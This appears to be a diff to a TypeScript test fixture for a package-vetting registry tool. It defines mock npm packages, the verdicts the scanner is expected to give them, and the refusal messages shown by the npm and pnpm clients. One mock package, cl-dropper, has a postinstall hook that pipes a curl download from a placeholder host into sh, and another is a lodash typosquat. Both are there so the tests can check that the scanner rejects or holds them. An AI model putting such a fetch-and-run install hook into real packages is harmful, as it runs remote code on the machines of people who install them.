@@ -8,7 +8,7 @@
  *   cl-dropper 1.0.0 (its only version: a `curl … | sh` postinstall the static rules reject)
  *   cl-icons@1.0.0 → cl-dropper@1.0.0 (approved itself; blocked by its dependency)
  *   loadsh 1.0.0 (a typosquat of lodash: held for review)
- *   never vetted (upstream only, left out of the scan): cl-lib 1.2.0, cl-fresh 1.0.0
+ *   cl-solo 1.0.0 (approved); never vetted (upstream only, left out of the scan): cl-solo 1.1.0, cl-fresh 1.0.0
  */
 import { strict as assert } from 'node:assert';
 import { mkdtemp, rm } from 'node:fs/promises';
@@ -23,7 +23,7 @@ import type { ServerProcess } from './support/server-process.js';
 export const REJECTED = { name: 'fixture-termcolor', version: '1.0.1' } as const;
 
 /** Upstream versions the scan leaves out: never vetted. */
-export const NEVER_VETTED = ['cl-lib@1.2.0', 'cl-fresh@1.0.0'] as const;
+export const NEVER_VETTED = ['cl-solo@1.1.0', 'cl-fresh@1.0.0'] as const;
 
 /** The verdict each scanned version must get (the refusal tests rely on them). */
 const EXPECTED: Record<string, string> = {
@@ -35,6 +35,7 @@ const EXPECTED: Record<string, string> = {
   'fixture-termcolor@1.0.1': 'rejected',
   'cl-dropper@1.0.0': 'rejected',
   'cl-icons@1.0.0': 'approved',
+  'cl-solo@1.0.0': 'approved',
   'loadsh@1.0.0': 'review',
 };
 
@@ -108,7 +109,8 @@ export async function startClientsWorld(): Promise<ClientsWorld> {
       pkg('cl-app', '1.0.0', { 'cl-lib': '^1.0.0', '@cl-scope/util': '^2.0.0' }),
       pkg('cl-lib', '1.0.0'),
       pkg('cl-lib', '1.1.0'),
-      pkg('cl-lib', '1.2.0'),
+      pkg('cl-solo', '1.0.0'),
+      pkg('cl-solo', '1.1.0'),
       pkg('@cl-scope/util', '2.0.0'),
       pkg('cl-dropper', '1.0.0', {}, { postinstall: 'curl -s http://dropper.invalid/x.sh | sh' }),
       pkg('cl-icons', '1.0.0', { 'cl-dropper': '1.0.0' }),
@@ -156,8 +158,8 @@ export async function startClientsWorld(): Promise<ClientsWorld> {
 /** Asserts the verdicts the client tests rely on, so a rule change fails here and not obscurely. */
 export function assertExpectedVerdicts(world: ClientsWorld): void {
   for (const [key, verdict] of world.verdicts) {
-    // In the scan, cl-icons is `blocked` by cl-dropper; its own artifact verdict is approved.
-    const expected = key === 'cl-icons@1.0.0' ? 'blocked' : EXPECTED[key];
+    // Every version is a root of this scan (no edges between them): cl-icons is not blocked here.
+    const expected = EXPECTED[key];
     assert.equal(verdict.state, expected, `${key}: ${verdict.state} (${verdict.reason ?? ''})`);
   }
   assert.equal(world.verdicts.size, Object.keys(EXPECTED).length);
@@ -195,35 +197,52 @@ export function refusalCases(world: ClientsWorld, options: { pnpm?: boolean } = 
     {
       title: 'a rejected version with no approved sibling',
       spec: 'cl-dropper@1.0.0',
-      says: [
-        'no approved version of cl-dropper: 1 rejected (1.0.0: rejected:',
-        '`secure-registry review cl-dropper@1.0.0`',
-      ],
+      says: options.pnpm
+        ? [
+            '/cl-dropper/-/refused/rejected-',
+            'see-secure-registry-review-cl-dropper@1.0.0/cl-dropper-1.0.0.tgz',
+          ]
+        : [
+            'no approved version of cl-dropper: 1 rejected (1.0.0: rejected:',
+            '`secure-registry review cl-dropper@1.0.0`',
+          ],
     },
     {
       title: 'a blocked chain names the dependency',
       spec: 'cl-icons@1.0.0',
-      says: ['no approved version of cl-dropper: 1 rejected', '`secure-registry review cl-dropper@1.0.0`'],
+      says: options.pnpm
+        ? [
+            '/cl-dropper/-/refused/rejected-',
+            'see-secure-registry-review-cl-dropper@1.0.0/cl-dropper-1.0.0.tgz',
+          ]
+        : ['no approved version of cl-dropper: 1 rejected', '`secure-registry review cl-dropper@1.0.0`'],
     },
     {
       title: 'a held version says how to ask for a review',
       spec: 'loadsh@1.0.0',
-      says: [
-        'no approved version of loadsh: 1 held for review',
-        'ask a reviewer to run `secure-registry review loadsh@1.0.0`',
-      ],
+      says: options.pnpm
+        ? ['/loadsh/-/refused/held-for-review-', 'see-secure-registry-review-loadsh@1.0.0/loadsh-1.0.0.tgz']
+        : [
+            'no approved version of loadsh: 1 held for review',
+            'ask a reviewer to run `secure-registry review loadsh@1.0.0`',
+          ],
     },
     {
       title: 'a never-vetted version of a vetted name',
-      spec: 'cl-lib@1.2.0',
+      spec: 'cl-solo@1.1.0',
       says: options.pnpm
-        ? ['refused/not-yet-vetted--vet-it-with-secure-registry-install/cl-lib-1.2.0.tgz']
-        : ['secure-registry refused cl-lib@1.2.0: not yet vetted', '`secure-registry install cl-lib@1.2.0`'],
+        ? ['refused/not-yet-vetted--vet-it-with-secure-registry-install/cl-solo-1.1.0.tgz']
+        : [
+            'secure-registry refused cl-solo@1.1.0: not yet vetted',
+            '`secure-registry install cl-solo@1.1.0`',
+          ],
     },
     {
       title: 'a never-vetted name',
       spec: 'cl-fresh@1.0.0',
-      says: ['no approved version of cl-fresh: 1 not yet vetted', '`secure-registry install cl-fresh@1.0.0`'],
+      says: options.pnpm
+        ? ['/cl-fresh/-/refused/not-yet-vetted--vet-it-with-secure-registry-install/cl-fresh-1.0.0.tgz']
+        : ['no approved version of cl-fresh: 1 not yet vetted', '`secure-registry install cl-fresh@1.0.0`'],
     },
   ];
 }
